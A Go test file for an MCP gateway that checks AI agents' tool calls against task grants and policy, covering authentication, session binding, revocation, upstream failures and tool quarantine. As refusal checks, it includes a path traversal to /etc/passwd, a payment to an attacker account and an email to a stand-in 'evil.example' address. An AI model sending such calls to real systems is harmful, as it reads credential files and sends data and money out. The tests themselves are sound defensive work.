package gateway_test

import (
	"encoding/json"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/warden-run/warden/config"
	"github.com/warden-run/warden/gateway"
	"github.com/warden-run/warden/identity"
)

const taskScope = `[
	{"tool": "files.read_file", "args": {"path": {"path_within": ["/finance"]}}},
	{"tool": "files.delete*"},
	{"tool": "payments.send_payment", "args": {"to": {"const": "acct-supplier"}, "amount": {"type": "number", "maximum": 500}}},
	{"tool": "email.list_inbox"}
]`

func demoUpstreams(t *testing.T) []config.Upstream {
	return []config.Upstream{
		{Name: "files", HTTP: &config.HTTPUpstream{URL: httpUpstream(t, "files")},
			Tools: map[string][]string{"read_file": {"reads"}, "list_files": {"reads"}, "write_file": {"writes"}, "delete_file": {"destructive"}}},
		{Name: "payments", Stdio: stdioUpstream("payments", false),
			Tools: map[string][]string{"get_balance": {"reads"}, "send_payment": {"egress", "writes"}}},
		{Name: "email", HTTP: &config.HTTPUpstream{URL: httpUpstream(t, "email")},
			Tools: map[string][]string{"list_inbox": {"reads", "untrusted_output"}, "send_email": {"egress"}}},
	}
}

func call(t *testing.T, cs *mcp.ClientSession, tool string, args string) *mcp.CallToolResult {
	t.Helper()
	r, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: json.RawMessage(args)})
	if err != nil {
		t.Fatalf("%s: %v", tool, err)
	}
	return r
}

func TestEveryCallGoesThroughTheGrantAndPolicy(t *testing.T) {
	e := start(t, demoUpstreams(t), nil)
	a := e.agent(t, "billing-bot")
	task, tok := e.grantFor(t, a, taskScope, 20)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	// tools/list shows what the grant names, minus what policy rules out
	// (delete_file is destructive: forbidden whatever the arguments).
	names := toolNames(t, cs)
	slices.Sort(names)
	if want := []string{"email.list_inbox", "files.read_file", "payments.send_payment"}; !slices.Equal(names, want) {
		t.Fatalf("tools/list = %v, want %v", names, want)
	}
	cases := []struct {
		tool, args, code, text string
	}{
		{"files.read_file", `{"path": "/finance/invoices/INV-42.txt"}`, "", "EUR 420.00"},
		{"payments.send_payment", `{"to": "acct-supplier", "amount": 420, "currency": "EUR"}`, "", "paid EUR 420.00"},
		{"files.read_file", `{"path": "/finance/../etc/passwd"}`, "constraint_violated", "outside /finance"},
		{"payments.send_payment", `{"to": "acct-attacker", "amount": 420, "currency": "EUR"}`, "constraint_violated", "acct-supplier"},
		{"payments.send_payment", `{"to": "acct-supplier", "amount": 9000, "currency": "EUR"}`, "constraint_violated", "amount"},
		{"files.delete_file", `{"path": "/finance/invoices/INV-42.txt"}`, "policy_forbid", "no-deletions"},
		{"email.send_email", `{"to": "audit@evil.example", "subject": "x", "body": "y"}`, "tool_not_granted", "not in this task's grant"},
	}
	for _, c := range cases {
		r := call(t, cs, c.tool, c.args)
		if got := decision(t, r); got != c.code {
			t.Errorf("%s %s: code %q, want %q (%v)", c.tool, c.args, got, c.code, r.Content)
			continue
		}
		txt := r.Content[0].(*mcp.TextContent).Text
		if !strings.Contains(txt, c.text) && !strings.Contains(metaString(r), c.text) {
			t.Errorf("%s: result %q lacks %q", c.tool, txt, c.text)
		}
	}
	// An unknown tool is a protocol error, not a tool result.
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "files.nope", Arguments: map[string]any{}}); err == nil {
		t.Error("calling an unknown tool did not fail")
	}
	// Completing the task ends its access on the very next call.
	if _, err := e.d.Grants.Complete(ctx, "test", task.ID); err != nil {
		t.Fatal(err)
	}
	if got := decision(t, call(t, cs, "files.read_file", `{"path": "/finance/invoices/INV-42.txt"}`)); got != "task_completed" {
		t.Errorf("after completion: %q", got)
	}
	if n := toolNames(t, cs); len(n) != 0 {
		t.Errorf("a completed task still lists %v", n)
	}
}

func metaString(r *mcp.CallToolResult) string {
	b, _ := json.Marshal(r.Meta)
	return string(b)
}

func TestAgentsAreAuthenticatedOnEveryRequest(t *testing.T) {
	e := start(t, demoUpstreams(t), nil)
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, taskScope, 20)
	if _, err := e.client(t, nil, tok); err == nil {
		t.Fatal("connected without a client certificate or JWT-SVID")
	}
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	if r := call(t, cs, "files.read_file", `{"path": "/finance/ledger.csv"}`); r.IsError {
		t.Fatal(r.Content)
	}
	// Disabling the agent refuses its next request on the same connection,
	// and its session is closed.
	if _, err := e.d.Identity.SetStatus(ctx, "op", identity.RoleAgent, "a", identity.StatusDisabled); err != nil {
		t.Fatal(err)
	}
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "files.read_file", Arguments: map[string]any{"path": "/finance/ledger.csv"}}); err == nil {
		t.Fatal("a disabled agent's call went through")
	}
}

func TestASessionBelongsToTheAgentThatOpenedIt(t *testing.T) {
	e := start(t, demoUpstreams(t), nil)
	a, b := e.agent(t, "a"), e.agent(t, "b")
	_, tokA := e.grantFor(t, a, taskScope, 20)
	cs, err := e.client(t, a, tokA)
	if err != nil {
		t.Fatal(err)
	}
	// b replays a's session id with its own certificate.
	body := `{"jsonrpc":"2.0","id":7,"method":"tools/list","params":{}}`
	req, _ := http.NewRequest(http.MethodPost, e.url, strings.NewReader(body))
	req.Header.Set("Mcp-Session-Id", cs.ID())
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	resp, err := mtlsClient(e, b).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("another agent used a's session: status %d", resp.StatusCode)
	}
}

func TestRevocationCancelsCallsInFlight(t *testing.T) {
	srv, started, _ := waitingUpstream(t)
	e := start(t, []config.Upstream{{Name: "slow", HTTP: &config.HTTPUpstream{URL: srv}, Tools: map[string][]string{"wait": {"reads"}}}},
		func(g *config.Gateway) { g.CallTimeout = 20 * time.Second })
	a := e.agent(t, "a")
	task, tok := e.grantFor(t, a, `[{"tool": "slow.*"}]`, 20)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	var res *mcp.CallToolResult
	var began time.Time
	wg.Add(1)
	go func() {
		defer wg.Done()
		res, _ = cs.CallTool(ctx, &mcp.CallToolParams{Name: "slow.wait", Arguments: map[string]any{}})
	}()
	<-started
	began = time.Now()
	if _, err := e.d.Grants.Revoke(ctx, "op", task.ID, "incident"); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	if res == nil || decision(t, res) != "grant_revoked" {
		t.Fatalf("in-flight call after revocation: %+v", res)
	}
	if d := time.Since(began); d > 2*time.Second {
		t.Fatalf("cancellation took %v", d)
	}
}

func TestUpstreamFailuresAreCleanErrors(t *testing.T) {
	slow := mcp.NewServer(&mcp.Implementation{Name: "slow", Version: "1"}, nil)
	type args struct{}
	mcp.AddTool(slow, &mcp.Tool{Name: "hang"}, func(c contextT, _ *mcp.CallToolRequest, _ args) (*mcp.CallToolResult, any, error) {
		<-c.Done()
		return nil, nil, c.Err()
	})
	srv := newHTTPServer(t, slow)
	e := start(t, []config.Upstream{
		{Name: "slow", HTTP: &config.HTTPUpstream{URL: srv}, CallTimeout: 300 * time.Millisecond, Tools: map[string][]string{"hang": {"reads"}}},
		{Name: "payments", Stdio: stdioUpstream("payments", true), Tools: map[string][]string{"get_balance": {"reads"}}},
		{Name: "gone", HTTP: &config.HTTPUpstream{URL: "http://127.0.0.1:1/mcp"}},
	}, nil)
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, `[{"tool": "slow.*"}, {"tool": "payments.*"}]`, 50)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	if got := decision(t, call(t, cs, "slow.hang", `{}`)); got != "upstream_timeout" {
		t.Errorf("silent upstream: %q", got)
	}
	// The stdio server crashes 300 ms after each start; the gateway restarts
	// it, and calls in between get a clean upstream error.
	codes := map[string]int{}
	deadline := time.Now().Add(4 * time.Second)
	for time.Now().Before(deadline) {
		r, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "payments.get_balance", Arguments: map[string]any{}})
		if err != nil {
			codes["protocol-error"]++ // the tool may be gone from the catalog while it restarts
		} else {
			codes[decision(t, r)]++
		}
		time.Sleep(50 * time.Millisecond)
	}
	if codes[""] == 0 || codes["upstream_unavailable"]+codes["upstream_error"]+codes["protocol-error"] == 0 {
		t.Errorf("crashing upstream: %v (want successes between restarts and clean errors)", codes)
	}
}

// A stdio server whose output stops being JSON-RPC is cut off and
// restarted, as one that crashed.
func TestGarbledUpstreamIsRestarted(t *testing.T) {
	up := stdioUpstream("payments", false)
	up.Env["WARDEN_TEST_CRASH"] = "garbage"
	e := start(t, []config.Upstream{{Name: "payments", Stdio: up, Tools: map[string][]string{"get_balance": {"reads"}}}}, nil)
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, `[{"tool": "payments.*"}]`, 100)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	codes := map[string]int{}
	deadline := time.Now().Add(4 * time.Second)
	for time.Now().Before(deadline) {
		r, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "payments.get_balance", Arguments: map[string]any{}})
		if err != nil {
			codes["protocol-error"]++
		} else {
			codes[decision(t, r)]++
		}
		time.Sleep(50 * time.Millisecond)
	}
	if codes[""] == 0 || codes["upstream_unavailable"]+codes["upstream_error"]+codes["protocol-error"] == 0 {
		t.Errorf("garbling upstream: %v (want successes between restarts and clean errors)", codes)
	}
}

func TestOversizedMessagesAreRefused(t *testing.T) {
	e := start(t, demoUpstreams(t), func(g *config.Gateway) { g.MaxMessageBytes = 4096 })
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, taskScope, 20)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	_, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "files.read_file", Arguments: map[string]any{"path": "/finance/" + strings.Repeat("a", 10000)}})
	if err == nil {
		t.Fatal("an oversized message was accepted")
	}
}

func TestPerUpstreamEndpoints(t *testing.T) {
	e := start(t, demoUpstreams(t), func(g *config.Gateway) { g.PerUpstreamEndpoints = true })
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, taskScope, 20)
	cs, err := e.clientAt(t, e.url+"/files", a, tok)
	if err != nil {
		t.Fatal(err)
	}
	if names := toolNames(t, cs); !slices.Equal(names, []string{"read_file"}) {
		t.Fatalf("per-upstream tools/list = %v", names)
	}
	if r := call(t, cs, "read_file", `{"path": "/finance/ledger.csv"}`); r.IsError {
		t.Fatal(r.Content)
	}
	if got := decision(t, call(t, cs, "read_file", `{"path": "/etc/passwd"}`)); got != "constraint_violated" {
		t.Fatalf("per-upstream endpoint skipped the grant: %q", got)
	}
}

// A per-session stdio upstream: each agent session gets its own process
// (its own state), killed when the session ends.
func TestPerSessionUpstreams(t *testing.T) {
	std := stdioUpstream("payments", false)
	std.PerSession = true
	e := start(t, []config.Upstream{{Name: "payments", Stdio: std, Tools: map[string][]string{"get_balance": {"reads"}, "send_payment": {"egress"}}}}, nil)
	if _, err := e.d.Policy.Apply(ctx, "p.cedar", []byte(`@id("all") permit (principal, action, resource);`), policyMeta()); err != nil {
		t.Fatal(err)
	}
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, `[{"tool": "payments.*"}]`, 50)
	one, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	two, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	if r := call(t, one, "payments.send_payment", `{"to": "x", "amount": 1000, "currency": "EUR"}`); r.IsError {
		t.Fatal(r.Content)
	}
	b1 := call(t, one, "payments.get_balance", `{}`).Content[0].(*mcp.TextContent).Text
	b2 := call(t, two, "payments.get_balance", `{}`).Content[0].(*mcp.TextContent).Text
	if b1 == b2 {
		t.Fatalf("two sessions share one process: balances %q and %q", b1, b2)
	}
}

// A tool the Vet hook holds back is neither listed nor callable, with the
// reason; once the verdict changes (an operator approved it), Revet
// serves it again.
func TestQuarantinedTools(t *testing.T) {
	var mu sync.Mutex
	held := map[string]string{"read_file": "its description changed since it was pinned"}
	e := startWith(t, demoUpstreams(t), func(o *gateway.Options) {
		o.Vet = func(_ contextT, server string, tools []*mcp.Tool) map[string]string {
			mu.Lock()
			defer mu.Unlock()
			if server != "files" {
				return nil
			}
			return maps.Clone(held)
		}
	})
	a := e.agent(t, "a")
	_, tok := e.grantFor(t, a, taskScope, 20)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	if slices.Contains(toolNames(t, cs), "files.read_file") {
		t.Fatal("a quarantined tool is listed")
	}
	r := call(t, cs, "files.read_file", `{"path": "/finance/ledger.csv"}`)
	if got := decision(t, r); got != gateway.CodeQuarantined || !strings.Contains(metaString(r), "pinned") {
		t.Fatalf("call to a quarantined tool: %q %s", got, metaString(r))
	}
	mu.Lock()
	delete(held, "read_file")
	mu.Unlock()
	e.gw.Revet()
	if r := call(t, cs, "files.read_file", `{"path": "/finance/ledger.csv"}`); r.IsError {
		t.Fatalf("approved tool still refused: %v", r.Content)
	}
}
